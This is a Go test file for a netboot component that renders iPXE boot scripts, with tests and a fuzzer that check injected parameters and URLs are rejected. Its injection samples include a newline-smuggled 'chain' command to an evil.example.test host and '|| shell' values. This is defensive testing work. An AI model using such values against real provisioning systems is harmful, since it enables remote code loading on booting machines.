package netboot

import (
	"strings"
	"testing"

	"salvor/problem"
)

func TestScript(t *testing.T) {
	n := testNode()
	got, err := renderScript(n.Plan, "a=b console=ttyS0")
	if err != nil {
		t.Fatal(err)
	}
	want := `#!ipxe
kernel --name kernel kernel initrd=initrd BOOTIF=01-${netX/mac:hexhyp} a=b console=ttyS0 || goto failed
initrd --name initrd ramdisk || goto failed
boot || goto failed
:failed
sleep 2
chain --replace --autofree boot.ipxe || exit 1
`
	if got != want {
		t.Errorf("%s", got)
	}
	n.Plan.Kernel, n.Plan.Ramdisk = "https://mirror.example.test/k?a=1&b=2", "http://192.0.2.9/r"
	if got, err = renderScript(n.Plan, ""); err != nil || !strings.Contains(got, "\nkernel --name kernel https://mirror.example.test/k?a=1&b=2 initrd=") ||
		!strings.Contains(got, "\ninitrd --name initrd http://192.0.2.9/r ||") {
		t.Errorf("%s, %v", got, err)
	}
}

// What a node's record holds must not become commands (CVE-2026-46447 of another control plane).
func TestScriptRefusesInjection(t *testing.T) {
	for _, bad := range []string{
		"a\nchain http://evil.example.test/", "a\rb", "a\x00b", "a=${net0/ip}", "a=$b", "a || shell", "a && shell", "a;b", `a="b`, "a='b", "a`b", `a\b`, "#a", "ä", "\x1b[2J",
		strings.Repeat("a", 5000),
	} {
		if got, err := renderScript(testNode().Plan, bad); !problem.Is(err, problem.Invalid) || got != "" {
			t.Errorf("params %q: %q, %v", bad, got, err)
		}
	}
	for _, bad := range []string{"http://h/a b", "http://h/${x}", "http://h/'x", "http:///nohost", "http://h/#frag", "http://h/a\nb", "http://[::1/x"} {
		p := testNode().Plan
		p.Kernel = bad
		if got, err := renderScript(p, ""); err == nil && strings.Contains(got, bad) && strings.ContainsAny(bad, " \n${}'") || err != nil && !problem.Is(err, problem.Invalid) {
			t.Errorf("kernel %q: %q, %v", bad, got, err)
		}
	}
}

func FuzzScript(f *testing.F) {
	f.Add("a=b", "http://h/k", "/r")
	f.Add("a\nb", "http://h/${k}", "https://h/\nr")
	f.Add("|| shell", "HTTP://h/ x", "http://[::1]/r")
	f.Fuzz(func(t *testing.T, params, kernel, ramdisk string) {
		p := testNode().Plan
		p.Kernel, p.Ramdisk = kernel, ramdisk
		got, err := renderScript(p, params)
		if err != nil {
			if !problem.Is(err, problem.Invalid) {
				t.Fatal(err)
			}
			return
		}
		if n := strings.Count(got, "\n"); n != 7 {
			t.Errorf("%d lines:\n%s", n, got)
		}
		if strings.Count(got, "$") != 1 || strings.Count(got, "||") != 4 || strings.Count(got, " && ") != 0 {
			t.Errorf("injected:\n%s", got)
		}
	})
}
